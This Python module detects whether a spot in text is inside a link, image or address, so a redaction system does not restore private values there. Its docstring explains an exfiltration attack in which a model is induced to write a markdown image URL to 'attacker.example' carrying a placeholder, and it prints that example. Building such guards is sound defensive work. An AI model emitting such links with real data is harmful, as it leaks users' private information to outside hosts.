"""Whether a place in a text is inside a link, an image or an address (RED-PH-7).

A model can be told to write `![](https://attacker.example/?q=[EMAIL_...])`: what a client then restores there, its
renderer sends away. So nothing is restored between the beginning of a link and its end, nor behind a host that has a
path or a query without `https://` before it, which many clients make a link as well. A link may be spelt with entities,
with the escapes of style sheets, and with brackets or quotes in its middle; what ends one for the renderer ends it here.
The machine errs on the side of "inside": a value that is not restored does no harm.
"""

from __future__ import annotations

import re
from typing import Final

_TOKEN: Final = re.compile(
    r"\]\(|url\(|[/\\](?:/|\\(?![()<>\"'`]))|\\[()<>\"'`]|\\0{0,4}(?:2f|5c)|https?:|www\.|<(?:"
    r"a|area|audio|base|body|button|embed|form|frame|iframe|image|img|input|link|meta|object|q|script|source|svg|table|td"
    r"|track|use|video"
    r")(?![A-Za-z0-9])"
    r"|&(?:#(?!0{0,4}(?:3[489]|6[02])(?![0-9])|x0{0,4}(?:2[267]|3[ce])(?![0-9a-f]))"
    r"|(?:bsol|colon|newline|period|sol|tab);)"
    r"|(?:\.(?:xn--[a-z0-9-]{1,59}|[a-z\u0080-\uffff]{2,24})|[\u3002\uff0e\uff61][a-z]{2,24}|\d\.\d{1,3})"
    r"\.?(?::\d{1,5})?[/?#\\]"
    r"|=[ \t\r\n]{0,64}[\"']|[\s\"'`<>()]",
    re.IGNORECASE | re.ASCII,
)
_LONGEST_TOKEN: Final = 96
"""With what a mark looks at behind it."""
_BATCH_CHARACTERS: Final = 4096
_CLOSERS: Final = {'"': '"', "'": "'", "`": "`", '\\"': '\\"', "\\'": "\\'", "\\`": "\\`", "<": ">", "(": ")"}
_QUOTES: Final = frozenset("\"'")
_SPACE: Final = " "
_GOES_ON: Final = re.compile(
    r"[.,;:!?)\]}>\"'`*_~|]{0,8}[\s<]|[ \t]{0,8}(?:[:}\])]|,[ \t]{0,8}(?:\\?[\"'\d\[{-]|null|true|false))",
    re.ASCII,
)
"""What follows a quote or a bracket that ends an address: the sentence or the JSON around it goes on. Without it, what
follows belongs to the address, as for those who make links of plain text."""


class LinkContext:
    """Reads a text in pieces. The result depends on the text alone, not on the pieces."""

    __slots__ = (
        "_angle",
        "_begun",
        "_closer",
        "_depth",
        "_is_plain",
        "_opener",
        "_quote",
        "_unread",
        "_unread_characters",
    )

    def __init__(self) -> None:
        self._unread: list[str] = []
        self._unread_characters = 0
        self._opener = ""
        self._closer = ""
        self._depth = 0
        self._is_plain = False
        """Whether the link is one because of its address alone, not by brackets or a tag around it."""
        self._begun = False
        """Whether a destination in parentheses has begun: only before it a line may end."""
        self._angle = False
        """Whether the destination stands in `<` and `>`, between which a parenthesis ends nothing."""
        self._quote = ""
        """The quote of an attribute or of a destination, in which neither `>` nor `)` ends anything."""

    def read(self, text: str) -> None:
        """Go on by this text."""
        if not text:
            return
        self._unread.append(text)
        self._unread_characters += len(text)
        if self._unread_characters > _BATCH_CHARACTERS:
            self._work_off(_LONGEST_TOKEN)

    def is_inside(self) -> bool:
        """Whether what comes next is inside a link. A placeholder must follow: no mark may go on after this."""
        self._work_off(0)
        self._begun = True
        return bool(self._closer)

    def _work_off(self, keep: int) -> None:
        text = "".join(self._unread)
        limit = len(text) - keep
        position = 0
        for match in _TOKEN.finditer(text):
            if match.end() > limit:
                limit = min(limit, match.start())
                break
            if match.start() > position:
                self._begun = True
            self._take(match[0].lower(), text, match.end())
            position = match.end()
        if position < limit:
            self._begun = True
        rest = text[max(position, limit) :] if keep else ""
        self._unread = [rest] if rest else []
        self._unread_characters = len(rest)

    def _take(self, mark: str, text: str, end: int) -> None:
        if self._closer:
            self._inside(mark, text, end)
            return
        if mark[0] == "=":
            mark = mark[-1]
        if mark.isspace():
            self._opener = ""
        elif mark in _CLOSERS:
            self._opener = mark
        elif mark in (">", ")") or (mark[0] == "\\" and mark[-1] in "()<>"):
            self._opener = ""
        else:
            self._enter(mark)

    def _enter(self, mark: str) -> None:
        self._depth = 1
        self._begun = self._angle = False
        self._quote = ""
        self._is_plain = False
        if mark in ("](", "url("):
            self._closer = ")"
        elif mark[0] == "<":
            self._closer = ">"
        else:
            self._is_plain = True
            self._closer = _CLOSERS.get(self._opener, _SPACE)
        self._opener = mark

    def _inside(self, mark: str, text: str, end: int) -> None:
        """Look for the end of the link: its closing character, the end of the line for one in parentheses."""
        closer = self._closer
        if closer == ")":
            self._in_parentheses(mark, text, end)
        elif closer == ">" and not self._is_plain:
            self._in_tag(mark)
        elif closer == _SPACE:
            if mark.isspace():
                self._leave()
        elif mark == closer or (mark[0] == "=" and mark[-1] == closer):
            self._close(text, end)

    def _in_tag(self, mark: str) -> None:
        if self._quote:
            if mark[-1] == self._quote:
                self._quote = ""
        elif mark[0] == "=":
            self._quote = mark[-1]
        elif mark == ">":
            self._leave()

    def _in_parentheses(self, mark: str, text: str, end: int) -> None:
        if mark.isspace():
            if mark in ("\n", "\r") and self._begun:
                self._leave()
            return
        if mark[0] == "=":
            mark = mark[-1]
        begun, self._begun = self._begun, True
        if self._quote:
            if mark == self._quote:
                self._quote = ""
        elif mark in _QUOTES and not begun and self._opener == "url(":
            self._quote = mark
        elif mark[0] == "<":
            self._angle = True
        elif mark == ">":
            self._angle = False
        elif self._angle or mark[0] == "\\":
            return
        elif mark[-1] == "(":
            self._depth += 1
        elif mark == ")":
            self._depth -= 1
            if self._depth == 0:
                self._close(text, end)

    def _close(self, text: str, end: int) -> None:
        """The link ends here, unless it is an address that goes on behind the quote or bracket."""
        if self._is_plain and self._closer != ">" and not _GOES_ON.match(text, end):
            self._closer = _SPACE
        else:
            self._leave()

    def _leave(self) -> None:
        self._closer = ""
        self._opener = ""
